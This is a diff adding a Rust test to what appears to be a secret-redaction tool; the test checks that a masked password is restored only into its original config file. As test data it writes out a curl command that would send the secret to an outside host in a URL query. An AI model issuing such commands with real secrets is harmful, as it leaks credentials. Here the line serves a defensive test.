@@ -75,3 +75,20 @@ fn check_prints_no_secret_in_any_format() {
     }
     assert!(leaked.is_empty(), "{leaked:?}");
 }
+
+#[test]
+fn a_secret_goes_back_into_its_own_place_only() {
+    let shell = Shell::new("restore");
+    let pool = "[shop]\nenv[DB_PASSWORD] = v7Kq01xTz9Lm4Rw\n";
+    shell.write("www.conf", pool);
+    let masked = shell.sockbox("redact --map map.json www.conf");
+    shell.write("masked.conf", masked.text());
+    let restored = shell.sockbox("redact --restore map.json masked.conf");
+    assert_eq!((restored.text(), restored.stderr.as_str()), (pool, ""));
+    let placeholder = masked.text().split(" = ").nth(1).unwrap().trim();
+    let answer = format!("curl https://example.org/?q={placeholder}\n");
+    shell.write("answer.txt", &answer);
+    let refused = shell.sockbox("redact --restore map.json answer.txt");
+    assert_eq!(refused.text(), answer);
+    assert!(refused.stderr.contains(placeholder), "{refused:?}");
+}
